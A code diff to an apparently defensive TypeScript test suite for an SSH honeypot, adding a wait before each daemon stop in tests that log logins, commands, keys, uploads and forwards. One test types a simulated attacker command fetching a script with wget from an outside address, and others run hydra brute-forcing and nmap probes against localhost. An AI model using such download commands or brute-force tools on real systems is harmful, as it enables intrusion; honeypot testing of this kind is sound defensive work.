@@ -36,6 +36,7 @@ describe('OpenSSH', () => {
     const typed = await lab.run(password('x', ...ssh()), { input: 'uname -m\nwget http://198.51.100.9/a.sh\n' });
     expect(typed.status).toBe(1);
     expect(typed.stdout).toContain('wget: can');
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     const { evidence } = daemon;
     expect(evidence.rows('SELECT username, password, accepted FROM v_logins ORDER BY event_id')).toEqual([
@@ -64,6 +65,7 @@ describe('OpenSSH', () => {
     await program.said(/\n\S+\r\n~ # $/);
     program.type('exit\n');
     expect(await program.ended).toBe(0);
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     expect(daemon.evidence.rows('SELECT command FROM v_commands ORDER BY event_id')).toEqual([
       { command: 'cat /etc/hostname' },
@@ -78,6 +80,7 @@ describe('OpenSSH', () => {
     const shown = await lab.run(['ssh-keygen', '-l', '-f', file]);
     const ran = await lab.run(ssh('-i', file, '-o', 'IdentitiesOnly=yes', 'true'));
     expect(ran).toMatchObject({ stderr: '', status: 0 });
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     const keys = daemon.evidence.rows('SELECT username, type, fingerprint, signed, accepted FROM ev_ssh_key');
     const fingerprint = shown.stdout.split(' ')[1];
@@ -104,6 +107,7 @@ describe('OpenSSH', () => {
       password('x', 'scp', '-O', ...OPTIONS, '-P', PORT, join(folder, 'bot'), 'root@127.0.0.1:/tmp/old'),
     );
     expect(old).toMatchObject({ stderr: '', status: 0 });
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     const uploads = daemon.evidence.rows(
       `SELECT u.path, u.size, u.complete, p.content FROM ev_ssh_upload u JOIN payload p ON p.sha256 = u.sha256 AND p.name = u.path
@@ -132,6 +136,7 @@ describe('OpenSSH', () => {
       password('x', ...ssh('-N', '-o', 'ExitOnForwardFailure=yes', '-R', '8080:127.0.0.1:80')),
     );
     expect(remote.status).toBe(255);
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     expect(daemon.evidence.rows(`SELECT host, port FROM ev_ssh_forward WHERE kind = 'tcpip-forward'`)).toEqual([
       { host: 'localhost', port: 8080 },
@@ -142,6 +147,7 @@ describe('OpenSSH', () => {
     const daemon = await lab.daemon();
     const refused: Ran = await lab.run(password('x', ...ssh('-o', 'NumberOfPasswordPrompts=1', 'true')));
     expect(refused.stderr).toContain('Permission denied (publickey,password).');
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     expect(daemon.evidence.rows('SELECT username, password, accepted FROM v_logins')).toEqual([
       { username: 'root', password: 'x', accepted: 0 },
@@ -159,6 +165,7 @@ describe('others', () => {
     const plink = ['plink', '-batch', '-P', PORT, '-pw', 'secret', '-hostkey', fingerprint];
     const ran = await lab.run([...plink, 'admin@127.0.0.1', 'echo from putty']);
     expect(ran, ran.stderr).toMatchObject({ stdout: 'from putty\n', status: 0 });
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     expect(daemon.evidence.rows('SELECT username, password FROM v_logins')).toEqual([
       { username: 'admin', password: 'secret' },
@@ -185,6 +192,7 @@ describe('others', () => {
     );
     const hydra = await lab.run(['hydra', '-I', '-t', '4', '-C', file, '-s', PORT, '127.0.0.1', 'ssh']);
     expect(hydra.stdout).toContain('1 of 1 target');
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     const stored = daemon.evidence
       .rows<{ username: string; password: string | null }>(
@@ -202,6 +210,7 @@ describe('others', () => {
     const scripts = await lab.run(['nmap', '-n', '-sV', '-p', PORT, '--script', names, '127.0.0.1']);
     expect(scripts.stdout).toMatch(/256 .* \(ECDSA\)[^]*256 .* \(ED25519\)/);
     expect(scripts.stdout).toMatch(/Supported authentication methods:[^]*publickey[^]*password/);
+    await daemon.deserted();
     expect(await daemon.stop()).toBe(0);
     expect(daemon.evidence.value(`SELECT count(*) FROM session WHERE end_reason IN ('fault', 'lost')`)).toBe(0);
   });
